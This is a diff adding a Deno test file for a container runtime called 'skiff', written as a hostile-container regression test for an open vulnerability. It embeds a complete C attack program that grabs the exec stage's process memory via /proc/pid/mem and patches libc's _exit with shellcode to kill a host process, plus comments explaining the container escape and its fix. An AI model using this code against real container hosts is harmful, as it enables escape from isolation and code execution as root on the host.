@@ -1,0 +1,157 @@
+// Attacks from the review of issue 9's fixes (a hostile container against skiff as it stands). Each
+// test is an attack that must fail; one that still succeeds is marked `ignore` with what is wrong.
+
+import assert from "node:assert/strict";
+import { join } from "node:path";
+import { compileStatic } from "./cprog.ts";
+import { withBusybox } from "./helpers.ts";
+import { withBackground } from "./background.ts";
+
+// Runs as PID 1 of a container with CAP_SYS_PTRACE. Each process that appears in its PID namespace
+// (the newest pid, from ns_last_pid) has its maps and mem opened at once: both keep the address space
+// they were opened on. When that is the address space of skiff's exec stage (the command's child
+// shares it between posix_spawn's clone and its execve), the fds stay on the stage's memory after
+// the command runs: the stage is a host process whose other threads run as root with every
+// capability in the host's namespaces, and whose main thread is in the host's PID namespace. Each
+// such hit goes to /out/hits. On x86-64 the attacker then patches the stage's libc _exit (its
+// offset in the host's libc is argv[1]): the stage, on its way out, kills the host process whose pid
+// is in /out/pid (one the container cannot otherwise see) and the patch is noted in /out/hits.
+// /out/seen counts the processes opened.
+const MEM_GRAB = `
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+static char buf[4 << 20];
+int main(int argc, char **argv) {
+  unsigned long exit_offset = argc > 1 ? strtoul(argv[1], 0, 16) : 0;
+  int done = 0;
+  for (;;) {
+    int f = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
+    int n = read(f, buf, 31);
+    close(f);
+    if (n <= 0) continue;
+    buf[n] = 0;
+    int last = atoi(buf);
+    for (int p = last; p <= last + 1; p++) {
+      if (p <= done || p == getpid()) continue;
+      char path[64];
+      snprintf(path, sizeof path, "/proc/%d/maps", p);
+      int maps = open(path, O_RDONLY);
+      if (maps < 0) continue;
+      snprintf(path, sizeof path, "/proc/%d/mem", p);
+      int mem = open(path, O_RDWR);
+      if (mem < 0) { close(maps); continue; }
+      done = p;
+      FILE *s = fopen("/out/seen", "a");
+      if (s) { fprintf(s, "%d\\n", p); fclose(s); }
+      size_t got = 0;
+      ssize_t r;
+      while ((r = read(maps, buf + got, sizeof buf - 1 - got)) > 0) got += r;
+      buf[got] = 0;
+      close(maps);
+      // the container's own processes run busybox or this program: anything else is not theirs
+      char *first = strchr(buf, '/');
+      if (!first || !strncmp(first, "/bin/busybox", 12) || !strncmp(first, "/memgrab", 8)) { close(mem); continue; }
+      char name[256];
+      sscanf(first, "%255s", name);
+      FILE *o = fopen("/out/hits", "a");
+      fprintf(o, "pid %d: memory of %s\\n", p, name);
+      fflush(o);
+      char *libc = strstr(buf, "libc.so.6");
+      if (exit_offset && libc) {
+        while (libc > buf && libc[-1] != '\\n') libc--;
+        unsigned long base = strtoul(libc, 0, 16);
+        int victim = 0;
+        FILE *v = fopen("/out/pid", "r");
+        if (v) { fscanf(v, "%d", &victim); fclose(v); }
+        // push rdi; mov edi, victim; mov esi, 9; mov eax, 62 (kill); syscall;
+        // pop rdi; mov eax, 231 (exit_group); syscall; hlt
+        unsigned char code[] = { 0x57, 0xbf, 0, 0, 0, 0, 0xbe, 9, 0, 0, 0, 0xb8, 62, 0, 0, 0, 0x0f, 0x05,
+                                 0x5f, 0xb8, 231, 0, 0, 0, 0x0f, 0x05, 0xf4 };
+        memcpy(code + 2, &victim, 4);
+        ssize_t w = victim ? pwrite(mem, code, sizeof code, base + exit_offset) : -1;
+        fprintf(o, "pid %d: patched _exit at %lx to kill host pid %d: %zd\\n", p, base + exit_offset, victim, w);
+      }
+      fclose(o);
+      close(mem);
+    }
+  }
+}
+`;
+
+/** The offset of `_exit` in the host's libc (what the stage's FFI calls on its way out), or "". */
+async function libcExitOffset(): Promise<string> {
+  if (Deno.build.arch !== "x86_64") return "";
+  const out = await new Deno.Command("nm", {
+    args: ["-D", "--defined-only", "/lib/x86_64-linux-gnu/libc.so.6"],
+    stdout: "piped",
+    stderr: "null",
+  }).output().catch(() => null);
+  const line = new TextDecoder().decode(out?.stdout ?? new Uint8Array()).split("\n")
+    .find((l) => / _exit(@|$)/.test(l));
+  return line?.split(" ")[0] ?? "";
+}
+
+// OPEN (found in this review; main at 6b8d9bc, this machine, 2 vCPU, 13:20-13:26 UTC): the container
+// held the exec stage's memory in 8 of 20, 13 of 30 and 7 of 30 execs ("memory of
+// /work/main/.deno/node_modules/@deno/linux-x64-glibc/deno"), and in 2 of 2 runs of this test the
+// patched stage killed the host process. The stage's other threads run as root with every capability,
+// no seccomp, the host's root and skiff's host fds: code written into their memory runs on the host;
+// even the main thread is in the host's PID namespace with the container's CAP_SYS_PTRACE and
+// CAP_KILL (what the patch above uses). Non-dumpable does not stop a tracer with CAP_SYS_PTRACE in the
+// host's user namespace. docker 20.10 with the same program: the container opens runc init's memory
+// too, but every thread of that process is already in the container's namespaces and no host process
+// shares its address space. The fix is in the stage's spawn: no process that shares the stage's
+// address space may exist in the container's PID namespace (posix_spawn clones with CLONE_VM): a
+// fork without CLONE_VM (the copy holds nothing the container may not have) or a helper process that
+// is entirely inside the container before anything appears there.
+Deno.test({
+  name: "exec with --cap-add SYS_PTRACE: the container never gets the exec stage's memory",
+  ignore: true, // OPEN: hits 13 of 30 execs today (see above); the fix is left to the lead
+  async fn() {
+    const grab = await compileStatic("memgrab", MEM_GRAB);
+    const exitOffset = await libcExitOffset();
+    await withBusybox(async (root) => {
+      const out = await Deno.makeTempDir({ prefix: "skiff-out-" });
+      // a host process the container cannot see: the patched stage kills it on its way out
+      const victim = new Deno.Command("sleep", { args: ["1000"] }).spawn();
+      let victimDied = false;
+      victim.status.then(() => victimDied = true);
+      try {
+        await Deno.writeTextFile(join(out, "pid"), `${victim.pid}\n`);
+        const command = ["/memgrab", ...(exitOffset ? [exitOffset] : [])];
+        await withBackground(
+          root,
+          "memgrab",
+          async (c) => {
+            const rounds = 30;
+            // long enough for the attacker to patch the stage before the command exits
+            for (let i = 0; i < rounds; i++) await root.skiff(["exec", c.name, "sleep", "0.3"]);
+            const seen = (await Deno.readTextFile(join(out, "seen")).catch(() => "")).trim().split("\n")
+              .filter(Boolean).length;
+            // the attacker must have opened the exec'd processes for the test to mean anything
+            assert.ok(seen >= rounds * 0.5, `the attacker opened ${seen} of ${rounds} exec'd processes`);
+            const hits = (await Deno.readTextFile(join(out, "hits")).catch(() => "")).trim();
+            await new Promise((r) => setTimeout(r, 200));
+            assert.equal(
+              hits + (victimDied ? "\nthe host process was killed" : ""),
+              "",
+              `the container held the exec stage's memory:\n${hits}`,
+            );
+          },
+          command,
+          ["--cap-add", "SYS_PTRACE", "-v", `${grab}:/memgrab:ro`, "-v", `${out}:/out`],
+        );
+      } finally {
+        try {
+          victim.kill("SIGKILL");
+        } catch { /* killed by the attack */ }
+        await victim.status;
+        await Deno.remove(out, { recursive: true });
+      }
+    });
+  },
+});
